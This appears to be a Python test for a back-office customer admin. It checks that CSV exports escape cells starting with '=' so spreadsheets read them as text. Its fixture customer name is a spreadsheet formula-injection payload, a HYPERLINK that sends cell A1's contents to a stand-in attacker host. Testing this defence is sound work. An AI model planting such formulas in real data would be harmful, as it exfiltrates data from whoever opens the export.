"""Back-office CSV exports are safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

from gridcare.org.models import StaffRole
from tests import factories
from tests.backoffice.builders import staff, verified_login

CHANGELIST = "/backoffice/customers/account/"


def test_a_customer_name_that_is_a_formula_is_exported_as_text(client, world):
    evil = factories.account(
        world, name='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', phone="+84912345678"
    )
    verified_login(client, staff(unit=world["company"], role=StaffRole.VIEWER))
    response = client.post(CHANGELIST, {"action": "export_csv", "_selected_action": [evil.pk], "index": 0})
    assert response.status_code == 200
    rows = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")))
    )
    assert rows[1][0] == evil.code
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    # A phone number in E.164 is a plain number: left as it is.
    assert "+84912345678" in rows[1]
